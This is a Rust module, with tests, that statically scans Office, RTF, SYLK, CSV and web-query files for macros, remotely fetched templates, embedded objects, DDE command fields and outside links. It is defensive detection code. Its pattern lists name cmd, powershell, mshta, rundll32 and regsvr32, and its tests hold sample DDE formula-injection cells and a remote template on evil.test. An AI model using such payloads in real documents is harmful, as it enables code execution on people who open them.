//! Office documents, old (compound files) and new (ZIP archives of XML): macros, templates fetched from elsewhere, other
//! things embedded. It reads names and a few records; it runs nothing and expands no XML.

use super::archive::{Archive, Listing};
use std::io::{Cursor, Read};

/// Entries of a compound file looked at.
const COMPOUND_ENTRIES_MAX: usize = 2_000;
/// Bytes read of one workbook or relations part.
const PART_BYTES_MAX: usize = 4 * 1024 * 1024;
/// Relations parts read in one document.
const RELATION_PARTS_MAX: usize = 50;
/// Records read of one workbook.
const WORKBOOK_RECORDS_MAX: usize = 4_000;

/// What stands before the address of a link that is a field.
const FIELD: &str = "HYPERLINK \"";
/// Links kept of one document.
const LINKS_MAX: usize = 200;
/// Letters of one link.
const LINK_CHARS_MAX: usize = 2_048;
/// Bytes of a compound file searched for links.
const COMPOUND_BYTES_MAX: usize = 10 * 1024 * 1024;

/// What a document holds.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Inside {
    /// Macros.
    pub macros: bool,
    /// A sheet of old-style macros.
    pub macro_sheet: bool,
    /// Where a template or object is fetched from.
    pub fetched_from: Option<String>,
    /// Something embedded.
    pub embedded: bool,
    /// A field that starts a program (DDE).
    pub runs_command: bool,
    /// A password is needed.
    pub encrypted: bool,
    /// It is an installer, not a document.
    pub installer: bool,
}

/// Looks into a compound file; `None` where it cannot be read.
pub fn look_into_compound(bytes: &[u8]) -> Option<Inside> {
    let mut file = cfb::CompoundFile::open(Cursor::new(bytes)).ok()?;
    let mut inside = Inside {
        // The class of Windows Installer packages.
        installer: file
            .root_entry()
            .clsid()
            .to_string()
            .eq_ignore_ascii_case("000c1084-0000-0000-c000-000000000046"),
        ..Inside::default()
    };
    let (mut workbook, mut document) = (None, None);
    for entry in file.walk().take(COMPOUND_ENTRIES_MAX) {
        let name = entry.name().to_lowercase();
        match name.as_str() {
            "vba" | "_vba_project" | "_vba_project_cur" | "macros" => inside.macros = true,
            "encryptedpackage" | "encryptedsummary" => inside.encrypted = true,
            "worddocument" if entry.is_stream() => document = Some(entry.path().to_path_buf()),
            "\u{1}ole10native" | "equation native" => inside.embedded = true,
            "workbook" | "book" if entry.is_stream() => workbook = Some(entry.path().to_path_buf()),
            _ => {}
        }
    }
    if let Some(mut stream) = document.and_then(|path| file.open_stream(path).ok()) {
        let mut head = [0; 12];
        // FibBase ([MS-DOC] 2.5.2): the bit `fEncrypted`.
        inside.encrypted |= stream.read_exact(&mut head).is_ok()
            && head.get(11).is_some_and(|flags| flags & 1 != 0);
    }
    if let Some(mut stream) = workbook.and_then(|path| file.open_stream(path).ok()) {
        let mut records = Vec::new();
        let _ = stream
            .by_ref()
            .take(PART_BYTES_MAX as u64)
            .read_to_end(&mut records);
        inside.macro_sheet = has_macro_sheet(&records);
        inside.encrypted |= has_record(&records, FILE_PASS);
    }
    Some(inside)
}

/// BoundSheet8 ([MS-XLS] 2.4.28): names a sheet and its kind.
const BOUND_SHEET: u16 = 0x0085;
/// FilePass ([MS-XLS] 2.4.117): what follows is encrypted.
const FILE_PASS: u16 = 0x002f;

fn records(workbook: &[u8]) -> impl Iterator<Item = (u16, &[u8])> {
    let mut rest = workbook;
    std::iter::from_fn(move || {
        let (kind, after) = rest.split_first_chunk::<2>()?;
        let (length, after) = after.split_first_chunk::<2>()?;
        let length = usize::from(u16::from_le_bytes(*length)).min(after.len());
        let (body, after) = after.split_at_checked(length)?;
        rest = after;
        Some((u16::from_le_bytes(*kind), body))
    })
    .take(WORKBOOK_RECORDS_MAX)
}

fn has_record(workbook: &[u8], wanted: u16) -> bool {
    records(workbook).any(|(kind, _)| kind == wanted)
}

/// The sixth byte of a BoundSheet8 is the sheet's kind; 1 is a macro sheet.
fn has_macro_sheet(workbook: &[u8]) -> bool {
    records(workbook).any(|(kind, body)| kind == BOUND_SHEET && body.get(5) == Some(&1))
}

/// Looks into a document of the new kind, already listed; `None` where it is an ordinary archive. What it unpacks is taken
/// off the budget.
pub fn look_into_xml(
    archive: &mut Archive<'_>,
    listing: &Listing,
    budget_bytes: &mut usize,
) -> Option<Inside> {
    if !listing
        .entries
        .iter()
        .any(|entry| entry.name == "[Content_Types].xml")
    {
        return None;
    }
    let mut inside = Inside::default();
    let mut relation_parts = 0;
    for entry in &listing.entries {
        let name = entry.name.to_ascii_lowercase();
        inside.macros |= name.ends_with("vbaproject.bin");
        inside.macro_sheet |= name.contains("xl/macrosheets/");
        inside.embedded |= name.contains("/embeddings/oleobject") || name.contains("/activex/");
        let words = matches!(name.as_str(), "word/document.xml" | "word/footnotes.xml");
        if words || name.starts_with("xl/externallinks/externallink") {
            let text = archive.unpack(entry.index, PART_BYTES_MAX, budget_bytes);
            inside.runs_command |= has_command_field(&String::from_utf8_lossy(&text));
        }
        if name.ends_with(".rels") && relation_parts < RELATION_PARTS_MAX {
            relation_parts += 1;
            let text = archive.unpack(entry.index, PART_BYTES_MAX, budget_bytes);
            inside.fetched_from = inside
                .fetched_from
                .or_else(|| fetched_from(&String::from_utf8_lossy(&text)));
        }
    }
    Some(inside)
}

/// Fields that start another program (ECMA-376 clauses 17.16.5.15 and 18.14.4). A field's letters may stand in pieces, with
/// markup between them; a workbook names the program outright.
fn has_command_field(xml: &str) -> bool {
    let fields: String = xml
        .split("instrText")
        .skip(1)
        .step_by(2)
        .filter_map(|piece| piece.split_once('>')?.1.split('<').next())
        .take(FIELDS_MAX)
        .collect();
    let upper = fields.to_ascii_uppercase();
    let simple = xml
        .split("w:instr=")
        .skip(1)
        .take(FIELDS_MAX)
        .filter_map(|rest| rest.get(1..)?.split('"').next())
        .any(|field| starts_command(&field.to_ascii_uppercase()));
    let runs = [
        "ddeService=\"cmd",
        "ddeService=\"powershell",
        "ddeService=\"mshta",
    ];
    starts_command(&upper) || simple || runs.iter().any(|service| xml.contains(service))
}

/// `DDE` is a field; `ADDED` is a word.
fn starts_command(fields: &str) -> bool {
    fields
        .split(|c: char| !c.is_ascii_alphanumeric())
        .any(|word| matches!(word, "DDE" | "DDEAUTO"))
}

/// Fields looked at in one document.
const FIELDS_MAX: usize = 5_000;

/// The target of the first relation that is fetched when the document is opened. Plain links are not: people follow them.
fn fetched_from(relations: &str) -> Option<String> {
    const FETCHED: [&str; 4] = ["/attachedTemplate", "/oleObject", "/frame", "/subDocument"];
    relations
        .split("<Relationship ")
        .skip(1)
        .take(1_000)
        .find_map(|relation| {
            let element = relation.split('>').next()?;
            let external = element.contains("\"External\"") || element.contains("'External'");
            let target = element
                .split("Target=")
                .nth(1)?
                .trim_start_matches(['"', '\''])
                .split(['"', '\''])
                .next()?;
            let remote = target.contains("://")
                || target.starts_with("\\\\")
                || target.starts_with("mhtml:");
            let local = target.starts_with("file:///C:") || target.starts_with("file:///c:");
            (external && remote && !local && FETCHED.iter().any(|kind| element.contains(kind)))
                .then(|| target.to_owned())
        })
}

/// Looks into a document that is plain text by its bytes: one whole XML file (Word and Excel 2003, flat packages), a symbolic
/// link sheet, a table, a web query. `ending` is that of its name; `None` where it is none of these.
pub fn look_into_text(text: &str, ending: &str) -> Option<Inside> {
    let begins = text.starts_with("<?xml") || text.starts_with("ID;P");
    if !begins && !matches!(ending, "csv" | "tsv" | "iqy") {
        return None;
    }
    let mut inside = Inside::default();
    let lower = text.to_ascii_lowercase();
    if lower.starts_with("<?xml") && lower.contains("<?mso-application") {
        inside.macros = lower.contains("macrospresent=\"yes\"") || lower.contains("vbaproject.bin");
        inside.runs_command = has_command_field(text);
        return Some(inside);
    }
    if lower.starts_with("id;p") {
        // A sheet that names what starts by itself.
        inside.macro_sheet = lower.contains("auto_open") || lower.contains("auto_close");
        inside.runs_command = has_command_cell(&lower);
        return Some(inside);
    }
    match ending {
        "csv" | "tsv" => inside.runs_command = has_command_cell(&lower),
        "iqy" => {
            inside.fetched_from = lower
                .lines()
                .find(|line| line.starts_with("http"))
                .map(str::to_owned)
        }
        _ => return None,
    }
    Some(inside)
}

/// A cell that calls another program by DDE: a program, a bar, and what is asked of it.
fn has_command_cell(lower: &str) -> bool {
    [
        "cmd|",
        "cmd.exe|",
        "powershell|",
        "mshta|",
        "rundll32|",
        "regsvr32|",
        "msexcel|",
    ]
    .iter()
    .any(|call| {
        lower.match_indices(call).take(FIELDS_MAX).any(|(at, _)| {
            let asked = lower.get(at + call.len()..).unwrap_or_default();
            asked.trim_start().starts_with('\'')
        })
    })
}

/// Where the links and outside parts of a document of the new kind, or of an OpenDocument one, lead; `None` where it is an
/// ordinary archive. What it unpacks is taken off the budget.
pub fn links_in_xml(
    archive: &mut Archive<'_>,
    listing: &Listing,
    budget_bytes: &mut usize,
) -> Option<Vec<String>> {
    let has = |name: &str| listing.entries.iter().any(|entry| entry.name == name);
    let open_document = has("mimetype") && has("content.xml");
    if !open_document && !has("[Content_Types].xml") {
        return None;
    }
    let wanted = |name: &str| name.ends_with(".rels") || (open_document && name == "content.xml");
    let mut links = Vec::new();
    for entry in listing
        .entries
        .iter()
        .filter(|entry| wanted(&entry.name))
        .take(RELATION_PARTS_MAX)
    {
        let text = archive.unpack(entry.index, PART_BYTES_MAX, budget_bytes);
        let text = String::from_utf8_lossy(&text);
        let attribute = if open_document {
            "xlink:href="
        } else {
            "Target="
        };
        links.extend(outside_targets(&text, attribute));
    }
    links.truncate(LINKS_MAX);
    Some(links)
}

/// The values of an attribute that are addresses outside the document.
fn outside_targets<'a>(xml: &'a str, attribute: &'a str) -> impl Iterator<Item = String> + 'a {
    xml.split(attribute)
        .skip(1)
        .filter_map(|rest| {
            let quote = rest.chars().next().filter(|c| matches!(c, '"' | '\''))?;
            let value = rest.get(1..)?.split(quote).next()?;
            let target = value
                .replace("&quot;", "\"")
                .replace("&apos;", "'")
                .replace("&lt;", "<")
                .replace("&gt;", ">")
                .replace("&amp;", "&");
            let start = target.get(..8).unwrap_or(&target).to_ascii_lowercase();
            let outside = ["http:", "https:", "ftp:", "file:", "javascr"];
            outside
                .iter()
                .any(|scheme| start.starts_with(scheme))
                .then_some(target)
        })
        .take(LINKS_MAX)
}

/// Where the links of an old office file lead: those of fields, and those kept as objects ([MS-OSHARED] 2.3.7.6).
pub fn links_in_compound(bytes: &[u8]) -> Vec<String> {
    /// The class of an address kept as an object, as it lies in the file.
    const ADDRESS: [u8; 16] = [
        0xe0, 0xc9, 0xea, 0x79, 0xf9, 0xba, 0xce, 0x11, 0x8c, 0x82, 0x00, 0xaa, 0x00, 0x4b, 0xa9,
        0x0b,
    ];
    let bytes = bytes
        .get(..bytes.len().min(COMPOUND_BYTES_MAX))
        .unwrap_or_default();
    let wide = |rest: &[u8]| {
        let letters = rest.chunks_exact(2).take(LINK_CHARS_MAX);
        let letters = letters.filter_map(|pair| <[u8; 2]>::try_from(pair).ok());
        let letters: Vec<u16> = letters
            .map(u16::from_le_bytes)
            .take_while(|letter| *letter > 0x20 && *letter != 0x22)
            .collect();
        String::from_utf16_lossy(&letters)
    };
    let narrow = |rest: &[u8]| {
        let letters = rest.iter().take(LINK_CHARS_MAX);
        let letters = letters.take_while(|letter| **letter > 0x20 && **letter != b'"');
        letters
            .map(|letter| char::from(*letter))
            .collect::<String>()
    };
    let wide_field: Vec<u8> = FIELD.bytes().flat_map(|letter| [letter, 0]).collect();
    let objects = places(bytes, &ADDRESS).filter_map(|at| bytes.get(at + 4..).map(wide));
    let wide_fields = places(bytes, &wide_field).filter_map(|at| bytes.get(at..).map(wide));
    let fields = places(bytes, FIELD.as_bytes()).filter_map(|at| bytes.get(at..).map(narrow));
    let all = objects.chain(wide_fields).chain(fields);
    all.filter(|target| target.contains("://"))
        .take(LINKS_MAX)
        .collect()
}

/// Where the links of rich text lead.
pub fn links_in_rich_text(text: &str) -> Vec<String> {
    text.split(FIELD)
        .skip(1)
        .filter_map(|rest| rest.split(['"', '}', '\n']).next())
        .filter(|target| target.contains("://"))
        .map(str::to_owned)
        .take(LINKS_MAX)
        .collect()
}

/// The places right behind each occurrence.
fn places<'a>(bytes: &'a [u8], wanted: &'a [u8]) -> impl Iterator<Item = usize> + 'a {
    let found = bytes.windows(wanted.len()).enumerate();
    found
        .filter(move |(_, window)| *window == wanted)
        .map(move |(at, _)| at + wanted.len())
        .take(LINKS_MAX)
}

/// Looks into rich text: embedded objects, and templates fetched from elsewhere.
pub fn look_into_rich_text(text: &str) -> Inside {
    let lower = text.to_ascii_lowercase();
    let template = lower.split("\\*\\template").nth(1).map(str::trim_start);
    let runs_command = text
        .split("fldinst")
        .skip(1)
        .take(FIELDS_MAX)
        .filter_map(|field| field.split('}').next())
        .any(|field| starts_command(&field.to_ascii_uppercase()));
    Inside {
        runs_command,
        embedded: lower.contains("\\objdata") || lower.contains("\\objupdate"),
        fetched_from: template
            .filter(|target| target.starts_with("http") || target.starts_with("\\\\"))
            .map(|target| target.split(['}', ' ']).next().unwrap_or(target).to_owned()),
        ..Inside::default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_macro_sheet_is_a_record_of_its_own_kind() {
        let plain = [0x85, 0, 8, 0, 0, 0, 0, 0, 0, 0, 1, 0];
        let macros = [0x85, 0, 8, 0, 0, 0, 0, 0, 0, 1, 1, 0];
        assert!(!has_macro_sheet(&plain));
        assert!(has_macro_sheet(&macros));
        assert!(!has_macro_sheet(&macros[..7]));
    }

    #[test]
    fn fetched_templates_are_told_from_links() {
        let template = "<Relationship Id=\"r1\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.test/t.dotm\" TargetMode=\"External\"/>";
        let link = template.replace("attachedTemplate", "hyperlink");
        assert_eq!(
            fetched_from(template).as_deref(),
            Some("http://evil.test/t.dotm")
        );
        assert_eq!(fetched_from(&link), None);
        assert!(
            look_into_rich_text("{\\rtf1{\\*\\template http://evil.test/a}}")
                .fetched_from
                .is_some()
        );
    }

    #[test]
    fn a_compound_file_with_a_macro_storage_has_macros() {
        let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
        file.create_storage_all("/Macros/VBA").unwrap();
        let bytes = file.into_inner().into_inner();
        assert!(look_into_compound(&bytes).unwrap().macros);
        assert_eq!(
            look_into_compound(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 broken"),
            None
        );
    }

    #[test]
    fn a_field_that_starts_a_program_is_told_even_in_pieces() {
        for field in [
            "<w:instrText xml:space=\"preserve\">DDE</w:instrText><w:r/><w:instrText>AUTO c:\\x</w:instrText>",
            "<w:fldSimple w:instr=\" dde cmd /c\"/>",
        ] {
            assert!(has_command_field(field), "{field}");
        }
        assert!(!has_command_field(
            "<w:instrText>HYPERLINK \"http://added.test\"</w:instrText> DDE"
        ));
        assert!(look_into_rich_text("{\\field{\\*\\fldinst DDEAUTO cmd \"/c x\"}}").runs_command);
    }

    #[test]
    fn links_are_read_out_of_old_and_new_documents() {
        let relations = "<Relationship Type='x/hyperlink' Target='https://a.test/?x=1&amp;y=2' TargetMode='External'/>\
            <Relationship Target=\"styles.xml\"/>";
        let targets: Vec<String> = outside_targets(relations, "Target=").collect();
        assert_eq!(targets, ["https://a.test/?x=1&y=2"]);
        let mut old = b"\xd0\xcf\x11\xe0 HYPERLINK \"http://b.test/c\" \x15".to_vec();
        old.extend([
            0xe0, 0xc9, 0xea, 0x79, 0xf9, 0xba, 0xce, 0x11, 0x8c, 0x82, 0x00, 0xaa, 0x00, 0x4b,
            0xa9, 0x0b, 30, 0, 0, 0,
        ]);
        old.extend("http://d.test/e".bytes().flat_map(|letter| [letter, 0]));
        assert_eq!(
            links_in_compound(&old),
            ["http://d.test/e", "http://b.test/c"]
        );
        assert_eq!(
            links_in_rich_text("{\\*\\fldinst HYPERLINK \"http://f.test/\"}"),
            ["http://f.test/"]
        );
    }

    #[test]
    fn documents_that_are_plain_text_are_told_by_what_they_do() {
        let acts = |text: &str, ending: &str| look_into_text(text, ending).unwrap_or_default();
        let xml = "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:wordDocument w:macrosPresent=\"yes\">";
        assert!(acts(xml, "xml").macros);
        assert!(acts("ID;PWXL\nNN;NAuto_open;ER1C1\nE", "slk").macro_sheet);
        assert!(acts("a,=cmd|'/c x'!A0", "csv").runs_command);
        assert_eq!(
            acts("WEB\n1\nhttp://q.test/a", "iqy")
                .fetched_from
                .as_deref(),
            Some("http://q.test/a")
        );
        assert_eq!(acts("name|'word',a", "csv"), Inside::default());
        assert_eq!(look_into_text("only words", "txt"), None);
    }
}
